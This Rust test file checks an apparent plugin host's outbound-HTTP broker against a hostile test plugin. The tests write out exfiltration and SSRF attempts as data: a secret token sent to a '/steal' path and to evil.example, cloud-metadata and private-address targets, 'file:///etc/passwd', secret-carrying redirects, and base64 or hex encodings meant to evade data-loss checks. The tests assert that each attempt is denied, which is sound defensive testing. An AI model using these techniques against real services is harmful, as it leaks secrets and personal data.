//! Brokered outbound HTTP: a real HTTP server on loopback, the service in dev mode, and a
//! hostile plugin (`secret-thief`) that tries every way to read a secret or to send data
//! where it may not go. Each attempt fails and is audited with its reason.

use crate::support::{component, fixture, manifest, ticket};
use airlock_host::app::{Airlock, Options};
use airlock_host::audit::{AuditEntry, AuditFilter, Decision};
use airlock_host::dispatch::EventRequest;
use airlock_host::egress::{DlpAction, EgressConfig, StaticResolver};
use airlock_host::installation::Grants;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const SECRET: &str = "S3CRET-tok-9f8e7d6c5b4a";
const EMAIL: &str = "vera@bigcorp.example";

/// A tiny HTTP/1.1 server: records every request and answers by path: a registered
/// redirect → 302; `/api/big` → 200 KiB; else the request echoed.
struct Server {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<String>>>,
    redirects: Arc<Mutex<Vec<(String, String)>>>,
}

impl Server {
    fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let redirects = Arc::new(Mutex::new(Vec::new()));
        let (log, table) = (seen.clone(), redirects.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (log, table) = (log.clone(), table.clone());
                std::thread::spawn(move || serve(stream, &log, &table));
            }
        });
        Server {
            addr,
            seen,
            redirects,
        }
    }

    /// Makes `path` answer 302 to `to`; returns the URL of `path`.
    fn redirect(&self, path: &str, to: &str) -> String {
        self.redirects
            .lock()
            .unwrap()
            .push((path.to_string(), to.to_string()));
        self.url(path)
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    fn saw(&self, needle: &str) -> bool {
        self.seen.lock().unwrap().iter().any(|r| r.contains(needle))
    }

    fn requests(&self) -> usize {
        self.seen.lock().unwrap().len()
    }
}

fn serve(mut s: TcpStream, log: &Mutex<Vec<String>>, redirects: &Mutex<Vec<(String, String)>>) {
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    let head_end = loop {
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
    let length: usize = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("content-length:")
                .map(|v| v.trim().parse().unwrap())
        })
        .unwrap_or(0);
    while buf.len() < head_end + length {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    let request = String::from_utf8_lossy(&buf).to_string();
    log.lock().unwrap().push(request.clone());
    let target = head.split(' ').nth(1).unwrap_or("/").to_string();
    let redirect = redirects
        .lock()
        .unwrap()
        .iter()
        .find(|(p, _)| *p == target)
        .map(|(_, to)| to.clone());
    let (status, extra, body) = if let Some(to) = redirect {
        ("302 Found", format!("Location: {to}\r\n"), Vec::new())
    } else if target == "/api/big" {
        ("200 OK", String::new(), vec![b'x'; 200 * 1024])
    } else {
        ("200 OK", String::new(), request.into_bytes())
    };
    let _ = write!(
        s,
        "HTTP/1.1 {status}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = s.write_all(&body);
}

fn config() -> EgressConfig {
    EgressConfig {
        dev_mode: true,
        max_response_bytes: 64 * 1024,
        timeout: Duration::from_secs(5),
        rate_per_minute: 1000,
        ..EgressConfig::default()
    }
}

fn open(egress: EgressConfig) -> (tempfile::TempDir, Airlock) {
    let dir = tempfile::tempdir().unwrap();
    let resolver = StaticResolver::new([
        ("rebind.ssrf.test", "127.0.0.1"),
        ("meta.ssrf.test", "169.254.169.254"),
        ("private.ssrf.test", "10.0.0.7"),
        ("ula.ssrf.test", "fd00::1"),
        ("v6meta.ssrf.test", "fd00:ec2::254"),
        ("cgnat.ssrf.test", "100.64.0.1"),
        ("linklocal.ssrf.test", "169.254.1.1"),
        ("zero.ssrf.test", "0.0.0.0"),
        ("mixed.ssrf.test", "93.184.216.34"),
        ("mixed.ssrf.test", "192.168.0.1"),
    ]);
    let airlock = Airlock::open_with(
        dir.path(),
        Options {
            egress,
            resolver: Arc::new(resolver),
            master_key: Some([42; 32]),
            ..Options::default()
        },
    )
    .unwrap();
    airlock.import(&fixture()).unwrap();
    airlock
        .handle_event(EventRequest::TicketCreated {
            ticket: ticket("t-1", "Printer on fire", "It smokes.", "u-vip"),
        })
        .unwrap();
    (dir, airlock)
}

/// The thief installed against servers A and B, with every destination but the metadata
/// address approved, and the secret set.
fn thief(airlock: &Airlock, a: &Server, b: &Server) {
    let text = manifest("secret-thief")
        .replace("127.0.0.1:18081", &a.addr.to_string())
        .replace("127.0.0.1:18082", &b.addr.to_string());
    let inst = airlock
        .install("plugin.toml", &text, &component("secret-thief"), None)
        .unwrap();
    let grants = Grants {
        read: inst.manifest.data.read.clone(),
        egress: [
            format!("http://{}", a.addr),
            format!("http://{}", b.addr),
            "https://*.ssrf.test".to_string(),
        ]
        .into(),
        // The plugin sees the email unmasked, so the egress checks are what stop it.
        reveal: ["email".to_string()].into(),
        ..Default::default()
    };
    airlock.set_grants("secret-thief", grants).unwrap();
    airlock
        .set_settings("secret-thief", json!({"token": SECRET, "label": "public"}))
        .unwrap();
}

/// Runs the thief with a payload; returns its summary lines and its http.request records.
fn act(airlock: &Airlock, payload: Value) -> (Vec<String>, Vec<AuditEntry>) {
    let results = airlock
        .handle_event(EventRequest::Action {
            ticket_id: "t-1".into(),
            name: "probe".into(),
            payload,
        })
        .unwrap();
    let r = results
        .iter()
        .find(|r| r.installation == "secret-thief")
        .unwrap();
    assert_eq!(r.status, "ok", "{r:?}");
    let summary = r.summary.clone().unwrap();
    assert!(
        !summary.contains(SECRET),
        "the plugin saw the secret: {summary}"
    );
    let records = airlock
        .audit(&AuditFilter {
            installation: Some("secret-thief".into()),
            limit: Some(10_000),
            ..Default::default()
        })
        .unwrap()
        .into_iter()
        .map(|r| r.entry)
        .filter(|e| e.invocation == r.invocation && e.call == "http.request")
        .collect::<Vec<_>>();
    for e in &records {
        let text = serde_json::to_string(e).unwrap();
        assert!(!text.contains(SECRET), "the audit holds the secret: {text}");
        assert!(!text.contains(EMAIL), "the audit holds a value: {text}");
    }
    (summary.lines().map(str::to_string).collect(), records)
}

fn request(method: &str, url: &str, headers: Value, body: &str) -> Value {
    json!({"method": method, "url": url, "headers": headers, "body": body})
}

/// Asserts request `i` was refused with `kind` and audited as a denial whose reason
/// contains `reason`.
fn refused(lines: &[String], records: &[AuditEntry], i: usize, kind: &str, reason: &str) {
    let line = lines
        .iter()
        .find(|l| l.starts_with(&format!("#{i} ")))
        .unwrap();
    assert!(line.starts_with(&format!("#{i} error={kind}:")), "{line}");
    let e = &records[i];
    assert_eq!(e.decision, Some(Decision::Deny), "{e:?}");
    assert!(
        e.reason.contains(reason),
        "#{i}: `{}` lacks `{reason}`",
        e.reason
    );
}

#[test]
fn an_allowed_request_carries_the_secret_the_plugin_never_sees() {
    let (a, b) = (Server::start(), Server::start());
    let (dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("POST", &a.url("/api/echo"), json!([["Authorization", "Bearer {{secret.token}}"]]), "subject={subject}"),
            request("GET", &a.url("/api/q?key={{secret.token}}"), json!([]), ""),
            request("GET", &a.url("/api/basic"), json!([["Authorization", "Basic bot:{{secret.token}}"]]), ""),
        ]}),
    );
    // The server got the secret, in each form.
    assert!(a.saw(&format!("Authorization: Bearer {SECRET}")));
    assert!(a.saw(&format!("GET /api/q?key={SECRET} ")));
    use base64::Engine as _;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("bot:{SECRET}"));
    assert!(a.saw(&format!("Authorization: Basic {basic}")));
    assert!(a.saw("subject=Printer on fire"));
    // The echo came back with the secret scrubbed.
    for (i, line) in lines.iter().enumerate() {
        assert!(line.starts_with(&format!("#{i} status=200")), "{line}");
        assert!(line.contains("[SECRET]"), "{line}");
        assert!(!line.contains(&basic), "{line}");
    }
    // Audited with the agreed keys.
    let d = &records[0].details;
    assert_eq!(records[0].decision, Some(Decision::Allow));
    assert_eq!(d["destination"], format!("http://{}", a.addr));
    assert_eq!(d["method"], "POST");
    assert_eq!(d["path"], "/api/echo");
    assert_eq!(d["status"], "200");
    assert!(d["bytes_out"].parse::<u64>().unwrap() > 0);
    assert!(d["bytes_in"].parse::<u64>().unwrap() > 0);
    assert_eq!(d["classes"], "ticket.subject");
    assert_eq!(records[1].details["path"], "/api/q");

    // Never returned by the API, and encrypted at rest.
    let inst = airlock.installation("secret-thief").unwrap();
    let public = serde_json::to_string(&inst.clone().public()).unwrap();
    assert!(!public.contains(SECRET) && !public.contains(&inst.secrets["token"]));
    assert!(public.contains("\"secrets_set\":[\"token\"]"), "{public}");
    assert!(!inst.settings.to_string().contains(SECRET));
    for file in ["airlock.db", "airlock.db-wal"] {
        if let Ok(bytes) = std::fs::read(dir.path().join(file)) {
            assert!(
                !bytes.windows(SECRET.len()).any(|w| w == SECRET.as_bytes()),
                "{file}"
            );
        }
    }
    // An admin may update other settings without re-sending (or seeing) the secret.
    airlock
        .set_settings("secret-thief", json!({"label": "other"}))
        .unwrap();
    let (lines, _) = act(
        &airlock,
        json!({"requests": [request("GET", &a.url("/api/again"), json!([["X-Key", "{{secret.token}}"]]), "")]}),
    );
    assert!(lines[0].starts_with("#0 status=200"), "{lines:?}");
    assert!(a.saw(&format!("X-Key: {SECRET}")));
}

#[test]
fn the_plugin_cannot_read_or_exfiltrate_the_secret() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let bearer = json!([["Authorization", "Bearer {{secret.token}}"]]);
    let (lines, records) = act(
        &airlock,
        json!({"read_settings": true, "requests": [
            // Echo it back from an allowed server, the placeholder in the body.
            request("POST", &a.url("/api/echo"), json!([]), "{{secret.token}}"),
            // Send it to a server it is not bound to.
            request("GET", &b.url("/steal"), bearer.clone(), ""),
            // A secret the manifest does not declare, a misspelt placeholder, and one in a
            // header name.
            request("GET", &a.url("/api/x"), json!([["X", "{{secret.other}}"]]), ""),
            request("GET", &a.url("/api/x"), json!([["X", "{{ secret.token }}"]]), ""),
            request("GET", &a.url("/api/x"), json!([["{{secret.token}}", "x"]]), ""),
            // A redirect from the bound server to the unbound one, with the secret.
            request("GET", &a.redirect("/api/r1", &b.url("/steal")), bearer, ""),
        ]}),
    );
    // Settings: the plain ones only.
    assert_eq!(lines[0], r#"settings.all={"label":"public"}"#);
    assert_eq!(lines[1], "settings.get=none");
    let lines = &lines[2..];
    refused(lines, &records, 0, "denied", "never in the body");
    refused(
        lines,
        &records,
        1,
        "denied",
        "secret `token` is not bound to",
    );
    refused(
        lines,
        &records,
        2,
        "denied",
        "`other` is not a secret setting",
    );
    refused(lines, &records, 3, "denied", "malformed secret placeholder");
    refused(lines, &records, 4, "invalid", "invalid name");
    refused(lines, &records, 5, "denied", "redirect to");
    assert!(
        records[5].reason.contains("secret `token` is not bound"),
        "{}",
        records[5].reason
    );
    // A saw only the redirecting request (it may receive the token); B saw nothing.
    assert_eq!(a.requests(), 1);
    assert!(!b.saw(SECRET), "B got the secret");
    assert_eq!(b.requests(), 0);
}

#[test]
fn disallowed_destinations_paths_and_methods_are_refused() {
    let (a, b, c) = (Server::start(), Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("GET", "https://evil.example/api", json!([]), ""),
            request("GET", &c.url("/api"), json!([]), ""),
            request("GET", &a.url("/admin"), json!([]), ""),
            request("GET", &a.url("/apix"), json!([]), ""),
            request("DELETE", &a.url("/api/x"), json!([]), ""),
            request("GET", "https://169.254.169.254/latest/meta-data/", json!([]), ""),
            request("GET", &format!("https://{}/api", a.addr), json!([]), ""),
            request("GET", &a.url("/api/../admin"), json!([]), ""),
            request("GET", "file:///etc/passwd", json!([]), ""),
            request("GET", &format!("http://user:pw@{}/api", a.addr), json!([]), ""),
        ]}),
    );
    refused(
        &lines,
        &records,
        0,
        "denied",
        "https://evil.example is not a destination declared",
    );
    refused(
        &lines,
        &records,
        1,
        "denied",
        &format!("http://{} is not a destination declared", c.addr),
    );
    refused(&lines, &records, 2, "denied", "the path is not allowed");
    refused(&lines, &records, 3, "denied", "the path is not allowed");
    refused(
        &lines,
        &records,
        4,
        "denied",
        "method DELETE is not allowed",
    );
    refused(
        &lines,
        &records,
        5,
        "denied",
        "https://169.254.169.254 is not approved",
    );
    refused(
        &lines,
        &records,
        6,
        "denied",
        "is not a destination declared",
    );
    refused(&lines, &records, 7, "denied", "the path is not allowed");
    refused(&lines, &records, 8, "invalid", "only https://");
    refused(&lines, &records, 9, "invalid", "credentials in the URL");
    assert_eq!(records[4].details["method"], "DELETE");
    assert_eq!(records[0].details["destination"], "https://evil.example");
    assert_eq!(a.requests() + c.requests(), 0);
}

#[test]
fn ssrf_targets_are_refused_after_resolution() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let cases = [
        ("rebind", "loopback"),
        ("meta", "cloud-metadata"),
        ("private", "private"),
        ("ula", "unique-local"),
        ("v6meta", "cloud-metadata"),
        ("cgnat", "cgnat"),
        ("linklocal", "link-local"),
        ("zero", "unspecified"),
        ("mixed", "private"),
    ];
    let requests: Vec<Value> = cases
        .iter()
        .map(|(name, _)| request("GET", &format!("https://{name}.ssrf.test/"), json!([]), ""))
        .collect();
    let (lines, records) = act(&airlock, json!({ "requests": requests }));
    for (i, (_, class)) in cases.iter().enumerate() {
        refused(
            &lines,
            &records,
            i,
            "denied",
            &format!("resolves to a {class} address"),
        );
    }

    // Plain http outside dev mode is refused, even to an approved loopback server.
    let (_dir, airlock) = open(EgressConfig {
        dev_mode: false,
        ..config()
    });
    thief(&airlock, &a, &b);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [request("GET", &a.url("/api/x"), json!([]), "")]}),
    );
    refused(&lines, &records, 0, "denied", "plain http is refused");
    assert_eq!(a.requests(), 0);
}

#[test]
fn redirects_are_followed_only_to_allowed_destinations() {
    let (a, b, c) = (Server::start(), Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("GET", &a.redirect("/api/r/1", &c.url("/x")), json!([]), ""),
            request("GET", &a.redirect("/api/r/2", &b.url("/ok")), json!([]), ""),
            request("GET", &a.redirect("/api/r/3", "https://meta.ssrf.test/"), json!([]), ""),
        ]}),
    );
    refused(
        &lines,
        &records,
        0,
        "denied",
        &format!("redirect to http://{} refused", c.addr),
    );
    assert_eq!(records[0].details["redirect"], format!("http://{}", c.addr));
    assert_eq!(c.requests(), 0);
    assert!(lines[1].starts_with("#1 status=200"), "{}", lines[1]);
    assert!(b.saw("GET /ok "));
    refused(
        &lines,
        &records,
        2,
        "denied",
        "resolves to a cloud-metadata address",
    );
}

#[test]
fn size_and_rate_limits_hold() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(EgressConfig {
        rate_per_minute: 3,
        max_request_bytes: 4096,
        ..config()
    });
    thief(&airlock, &a, &b);
    let big_body = "x".repeat(5000);
    let (lines, records) = act(
        &airlock,
        json!({"requests": [
            request("GET", &a.url("/api/big"), json!([]), ""),
            request("POST", &a.url("/api/x"), json!([]), &big_body),
            request("GET", &a.url("/api/1"), json!([]), ""),
            request("GET", &a.url("/api/2"), json!([]), ""),
            request("GET", &a.url("/api/3"), json!([]), ""),
        ]}),
    );
    refused(&lines, &records, 0, "limit", "larger than 65536 bytes");
    assert!(records[0].details["bytes_in"].parse::<u64>().unwrap() > 0);
    refused(&lines, &records, 1, "limit", "at most 4096 are sent");
    assert!(lines[2].starts_with("#2 status=200"), "{}", lines[2]);
    assert!(lines[3].starts_with("#3 status=200"), "{}", lines[3]);
    // The oversize response, the two fine ones: the fourth attempt within the minute.
    refused(
        &lines,
        &records,
        4,
        "limit",
        "more than 3 outbound requests per minute",
    );
}

#[test]
fn data_loss_checks_catch_evasions_and_are_audited() {
    let (a, b) = (Server::start(), Server::start());
    let (_dir, airlock) = open(config());
    thief(&airlock, &a, &b);
    let encodings = ["plain", "spaced", "dashed", "base64", "hex", "url"];
    let mut requests: Vec<Value> = encodings
        .iter()
        .map(|how| {
            let mut r = request(
                "POST",
                &a.url("/api/echo"),
                json!([]),
                "{\"who\":\"{email}\"}",
            );
            r["encode"] = json!(how);
            r
        })
        .collect();
    // In the URL (URL-encoded) and in a header.
    let mut in_url = request("GET", &a.url("/api/q?u={email}"), json!([]), "");
    in_url["encode"] = json!("url");
    requests.push(in_url);
    requests.push(request(
        "GET",
        &a.url("/api/h"),
        json!([["X-User", "{email}"]]),
        "",
    ));
    // A card number never came from the helpdesk, but the detectors know it.
    requests.push(request(
        "POST",
        &a.url("/api/echo"),
        json!([]),
        "card 4111 1111 1111 1111",
    ));
    // The subject is approved for A.
    requests.push(request("POST", &a.url("/api/echo"), json!([]), "{subject}"));
    let (lines, records) = act(
        &airlock,
        json!({"read_requester": true, "requests": requests}),
    );
    for (i, how) in encodings.iter().enumerate() {
        refused(&lines, &records, i, "denied", "data not approved for");
        assert!(
            records[i].reason.contains("requester.email"),
            "{how}: {}",
            records[i].reason
        );
        assert!(
            records[i].details["classes"].contains("requester.email"),
            "{how}"
        );
        if *how != "plain" {
            let hidden = match *how {
                "dashed" | "spaced" => "spacing",
                "url" => "url-encoding",
                other => other,
            };
            assert!(
                records[i].reason.contains(hidden),
                "{how}: {}",
                records[i].reason
            );
        }
    }
    refused(&lines, &records, 6, "denied", "requester.email");
    refused(&lines, &records, 7, "denied", "requester.email");
    refused(&lines, &records, 8, "denied", "credit_card");
    assert!(lines[9].starts_with("#9 status=200"), "{}", lines[9]);
    assert_eq!(records[9].details["classes"], "ticket.subject");
    assert!(!a.saw("vera") && !a.saw("4111"), "data left");
    assert_eq!(a.requests(), 1);

    // Masking by policy: plain copies are masked and sent; encoded ones still refused.
    let (_dir, airlock) = open(EgressConfig {
        dlp: DlpAction::Mask,
        ..config()
    });
    thief(&airlock, &a, &b);
    let mut encoded = request("POST", &a.url("/api/echo"), json!([]), "{email}");
    encoded["encode"] = json!("base64");
    let (lines, records) = act(
        &airlock,
        json!({"read_requester": true, "requests": [
            request("POST", &a.url("/api/masked"), json!([]), "to {email} now"),
            encoded,
        ]}),
    );
    assert!(lines[0].starts_with("#0 status=200"), "{}", lines[0]);
    assert!(a.saw("to [EMAIL] now") && !a.saw("vera"));
    assert!(records[0].details["masked"].contains("requester.email"));
    refused(&lines, &records, 1, "denied", "base64");
}

#[test]
fn example_plugins_send_only_what_they_declare() {
    let server = Server::start();
    let (_dir, airlock) = open(config());
    let loopback = format!("http://{}", server.addr);
    for (name, real) in [
        ("slack-notify", "https://hooks.slack.com"),
        ("crm-sync", "https://api.crm.example"),
    ] {
        let text = manifest(name).replace(real, &loopback);
        let inst = airlock
            .install("plugin.toml", &text, &component(name), None)
            .unwrap();
        let grants = Grants {
            read: inst.manifest.data.read.clone(),
            egress: [loopback.clone()].into(),
            reveal: inst.manifest.data.reveal.clone(),
            ..Default::default()
        };
        airlock.set_grants(name, grants).unwrap();
    }
    airlock
        .set_settings(
            "slack-notify",
            json!({"webhook_url": format!("{loopback}/services/T1/B2/{SECRET}")}),
        )
        .unwrap();
    airlock
        .set_settings(
            "crm-sync",
            json!({"crm_token": SECRET, "endpoint": format!("{loopback}/v1/contacts")}),
        )
        .unwrap();
    let mut urgent = ticket("t-9", "Server room flooded", "help", "u-vip");
    urgent.priority = Some("urgent".into());
    let results = airlock
        .handle_event(EventRequest::TicketCreated { ticket: urgent })
        .unwrap();
    let summary = |name: &str| {
        let r = results.iter().find(|r| r.installation == name).unwrap();
        assert_eq!(r.status, "ok", "{r:?}");
        r.summary.clone().unwrap()
    };
    assert_eq!(summary("slack-notify"), "posted");
    assert_eq!(summary("crm-sync"), "synced");
    assert!(server.saw(&format!("POST /services/T1/B2/{SECRET} ")));
    assert!(server.saw("Urgent ticket t-9: Server room flooded"));
    assert!(server.saw(&format!("Authorization: Bearer {SECRET}")));
    assert!(server.saw(&format!("\"email\":\"{EMAIL}\"")));
    let records = airlock
        .audit(&AuditFilter {
            limit: Some(10_000),
            ..Default::default()
        })
        .unwrap();
    let http: Vec<_> = records
        .iter()
        .filter(|r| r.entry.call == "http.request")
        .collect();
    assert_eq!(http.len(), 2);
    for r in http {
        let text = serde_json::to_string(r).unwrap();
        assert!(!text.contains(SECRET), "{text}");
        assert_eq!(r.entry.decision, Some(Decision::Allow));
        let classes = &r.entry.details["classes"];
        match r.entry.installation.as_str() {
            "crm-sync" => assert!(classes.contains("requester.email"), "{classes}"),
            _ => assert_eq!(classes, "ticket.subject"),
        }
    }
}
